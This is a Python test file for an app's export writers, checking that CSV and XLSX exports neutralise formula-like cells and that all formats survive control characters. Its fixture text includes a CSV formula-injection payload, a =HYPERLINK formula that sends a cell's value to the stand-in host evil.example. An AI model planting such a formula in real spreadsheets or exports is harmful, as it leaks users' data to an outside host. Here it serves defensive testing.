"""Every writer gives valid output whatever the text (issue 13 item 7), tabular exports
neutralise formula-like cells and nothing else does (item 8), a failed export leaves no
temporary folder. The hostile article is loaded as any file is: ESC, backspace and U+FFFF
in a claim, claims beginning with = and @."""

from __future__ import annotations

import csv
import io
import json
import tempfile
import zipfile

import lxml.etree
import pytest
from openpyxl import load_workbook
from pyoxigraph import NamedNode, RdfFormat, parse

from claimgraph.graph.read import analytics
from claimgraph.graph.exports import Selection, export
from claimgraph.graph.exports.rows import COLUMNS, FINDING_COLUMNS, ArticleAudit
from claimgraph.graph.exports.tabular import write_csv, write_xlsx
from claimgraph.graph.write.ingest import ingest
from claimgraph.graph.exports.safe_text import csv_field, formula_like, xml_text
from claimgraph.loaders import read_file
from claimgraph.web import create_app
from small_fs import fill, small_filesystem

from conftest import SEED

BAD = "\x1b[31m red \x08 back \uffff end"
HOSTILE = f"""What is the treatment for statin myopathy?

Last updated: March 12, 2025

From the Research

=HYPERLINK("http://evil.example/?x="&A1,"click") statins cause myopathy 1. Stopping the statin {BAD} is the first step 2. @SUM(1+1) helps with weakness 1.
"""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click") statins cause myopathy.'


@pytest.fixture
def hostile_store(store, tmp_path):
    for path in (SEED, tmp_path / "hostile.txt"):
        if path != SEED:
            path.write_text(HOSTILE, encoding="utf-8")
        outcome = ingest(store, read_file(path))
        assert outcome.ok, outcome.errors
    # Loaders drop control characters (issue 13 item 7, loaders/textio.py); a SPARQL update can
    # still write them, so the claim gets BAD back that way and every writer must cope.
    from pyoxigraph import Literal

    from claimgraph.graph.write import updates as writes

    content = NamedNode("http://purl.org/spar/c4o/hasContent")
    [quad] = [q for q in store.quads(None, content, None)
              if "is the first step" in q.object.value and "/claim-" in q.subject.value]
    text = quad.object.value.replace(quad.object.value[quad.object.value.index("statin") + 7:
                                                      quad.object.value.index(" is the first step")], BAD)
    writes.apply_update(store, f"DELETE DATA {{ GRAPH {quad.graph_name} {{ {quad.subject} {content} {quad.object} }} }} ; "
                               f"INSERT DATA {{ GRAPH {quad.graph_name} {{ {quad.subject} {content} {Literal(text)} }} }}")
    return store


@pytest.fixture
def client(hostile_store):
    app = create_app({"STORE": hostile_store, "STORE_PATH": str(hostile_store.path), "TESTING": True,
                      "PROPAGATE_EXCEPTIONS": False})  # a failure is the 500 a client gets
    return app.test_client()


def _xml_ok(data: bytes) -> lxml.etree._Element:
    return lxml.etree.fromstring(data, parser=lxml.etree.XMLParser(resolve_entities=False, recover=False))


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "html", "jsonld", "trig", "nanopub"])
def test_every_audit_export_is_valid_whatever_the_text(hostile_store, tmp_path, fmt):
    path = tmp_path / f"audit.{fmt}"
    export(hostile_store, Selection(), fmt, path)
    data = path.read_bytes()
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".xml"):
                    _xml_ok(archive.read(name))
        cells = [c.value for row in load_workbook(io.BytesIO(data))["Evidence"].iter_rows() for c in row]
        assert any(isinstance(v, str) and "red \ufffd back \ufffd end" in v for v in cells)
    elif fmt == "html":
        text = data.decode("utf-8")
        assert xml_text(text) == text
        assert "red \ufffd back \ufffd end" in text
    elif fmt == "jsonld":
        assert BAD in _strings(json.loads(data))
    elif fmt in ("trig", "nanopub"):
        assert any(BAD in q.object.value for q in parse(data, format=RdfFormat.TRIG) if hasattr(q.object, "value"))
    else:
        assert any(BAD in row["claim_text"] for row in csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _strings(value) -> str:
    if isinstance(value, dict):
        return " ".join(_strings(v) for v in value.values())
    if isinstance(value, list):
        return " ".join(_strings(v) for v in value)
    return str(value)


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_network_downloads_are_valid_xml_whatever_the_text(client, fmt):
    answer = client.get(f"/network.{fmt}")
    assert answer.status_code == 200
    root = _xml_ok(answer.data)
    labels = "".join(root.itertext()) + " ".join(str(a) for e in root.iter() for a in e.attrib.values())
    assert "red \ufffd back \ufffd end" in labels


def test_graph_writers_take_any_string_attribute():
    import networkx as nx

    graph = nx.DiGraph()
    graph.add_node("https://example.org/a", type="claim", label="lone \ud800 surrogate \x00 nul \ufffe")
    for fmt in analytics.EXPORT_FORMATS:
        _xml_ok(analytics.export(graph, fmt))


def test_csv_cells_that_could_run_as_formulas_are_neutralised(client, hostile_store):
    rows = list(csv.DictReader(io.StringIO(client.get("/export/audit.csv").data.decode("utf-8"))))
    texts = {row["claim_text"] for row in rows}
    assert "'" + FORMULA in texts and FORMULA not in texts
    assert any(t.startswith("'@SUM(1+1)") for t in texts) or any("@SUM" in t for t in texts)
    assert not any(value[:1] in "=+-@\t\r" for row in rows for value in row.values() if value)
    # The page tables (.csv) go through the same rule; HTML and JSON keep the text as loaded.
    article = next(r["version"] for r in rows if r["claim_text"] == "'" + FORMULA)
    page = article.replace("https://w3id.org/claimgraph/id/", "/id/")
    table = list(csv.DictReader(io.StringIO(client.get(page + ".csv").data.decode("utf-8"))))
    assert "'" + FORMULA in {r["text"] for r in table}
    assert FORMULA in {c["text"] for c in client.get(page + ".json").get_json()["table"]}
    assert FORMULA in client.get(page).data.decode("utf-8").replace("&#34;", '"').replace("&amp;", "&")


def test_xlsx_keeps_formula_like_text_exact_but_as_text(client):
    workbook = load_workbook(io.BytesIO(client.get("/export/audit.xlsx").data))
    cells = [c for row in workbook["Evidence"].iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert formula_cells and all(c.data_type == "s" and c.quotePrefix for c in formula_cells)


def test_numbers_are_not_text_cells(tmp_path):
    """A negative number in a numeric column is a number, never prefixed; the same
    characters as text are."""
    row = {name: "" for name in COLUMNS} | {"claim_position": -3, "version_number": -1, "claim_text": "-3 mg",
                                           "section": "+1", "verdict_note": "lone \ud800 surrogate"}
    audit = ArticleAudit("https://example.org/v", rows=[row],
                         findings=[{name: "@x" for name in FINDING_COLUMNS}])
    out = io.BytesIO()
    write_csv([audit], out)
    written = next(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert (written["claim_position"], written["version_number"]) == ("-3", "-1")
    assert (written["claim_text"], written["section"]) == ("'-3 mg", "'+1")
    assert written["verdict_note"] == "lone ? surrogate"
    out = io.BytesIO()
    write_xlsx([audit], out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Evidence"]
    values = {sheet.cell(1, i + 1).value: sheet.cell(2, i + 1) for i in range(len(COLUMNS))}
    assert values["claim_position"].value == -3 and values["claim_position"].data_type == "n"
    assert values["claim_text"].value == "-3 mg" and values["claim_text"].quotePrefix
    assert (csv_field(-2.5), csv_field(["=a", "b"]), formula_like(7)) == (-2.5, "'=a b", False)


def test_a_failed_export_leaves_no_temporary_folder(client, tmp_path, monkeypatch):
    """A real failure: the temporary folder's file system is full."""
    with small_filesystem(tmp_path / "tmp", "1m") as folder:
        monkeypatch.setattr(tempfile, "tempdir", str(folder))
        filler = fill(folder)
        answer = client.get("/export/audit.html", headers={"Accept": "application/json"})
        assert answer.status_code >= 500
        assert [p.name for p in folder.iterdir()] == [filler.name]
